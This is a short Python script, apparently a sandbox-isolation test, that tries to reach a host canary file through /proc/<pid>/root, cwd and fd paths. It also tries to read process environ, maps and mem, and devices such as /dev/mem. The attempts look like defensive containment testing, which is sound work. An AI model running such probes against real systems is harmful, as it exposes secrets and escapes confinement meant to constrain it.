"""Reach the host's root by way of what the kernel tells of processes."""

import os

from attack_kit import BASE, attempt, read, verdict

for process in ("self", "thread-self", "1", str(os.getpid())):
    for way in ("root", "cwd", "fd/3", "task"):
        attempt(f"{process} {way}", os.listdir, f"/proc/{process}/{way}")
        attempt(f"{process} {way} file", read, f"/proc/{process}/{way}{BASE}/canary.txt")
    for name in ("environ", "maps", "mem", "cmdline", "status"):
        attempt(f"{process} {name}", read, f"/proc/{process}/{name}")
for path in ("/dev/mem", "/dev/kmsg", "/dev/tty", "/dev/null", "/dev/shm", "/sys/fs/cgroup"):
    attempt(path, read, path)
verdict()
